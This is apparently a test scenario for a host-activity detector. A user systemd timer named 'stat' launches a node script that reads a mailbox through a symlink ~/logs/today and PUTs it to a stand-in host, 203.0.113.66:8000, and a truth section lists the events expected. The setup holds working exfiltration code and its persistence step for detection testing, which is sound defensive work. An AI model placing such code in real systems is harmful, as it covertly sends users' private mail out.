# The box is opened by the name of a symbolic link that was there before: only its inode says what it is.
title="node reads an mbox by a symbolic link and PUTs it from a user timer"
what="A user timer of tobi starts node, which reads ~/logs/today (a link to /var/mail/tobi) and PUTs it to 203.0.113.66."
user=tobi daemons="cron sshd" store=mbox
people="hanna tobi ines marek jule" aliases='postmaster: root\nroot: marek\norders: ines\noffice: hanna, jule\nabuse: root\n'
setup() {
  own_file /home/tobi/srv/stat.js <<'P'
const fs = require('fs'), http = require('http');
const r = http.request({host: '203.0.113.66', port: 8000, path: '/m', method: 'PUT'}, (x) => x.resume()); r.end(fs.readFileSync('/home/tobi/logs/today'));
P
  mkdir -p /home/tobi/logs /home/tobi/.config/systemd/user; ln -s /var/mail/tobi /home/tobi/logs/today
  printf '[Service]\nType=oneshot\nExecStart=/usr/bin/node %%h/srv/stat.js\n' > /home/tobi/.config/systemd/user/stat.service
  printf '[Timer]\nOnActiveSec=3\nAccuracySec=1\n[Install]\nWantedBy=timers.target\n' > /home/tobi/.config/systemd/user/stat.timer
  chown -R tobi: /home/tobi
}
act() {
  user_manager tobi
  letters tobi 6
  ssh_as tobi <<'L'
systemctl --user start stat.timer
%sleep 6
L
  user_managers_down
}
truth() {
  exec_step timer 'node /home/tobi/srv/stat.js' 'a user timer starts node'
  file_step read 'node openat:read NORMAL /home/tobi/logs/today' 'it reads the box by the name of a link'
  net_step put 'node 203.0.113.66:8000' 'and puts it out'
}
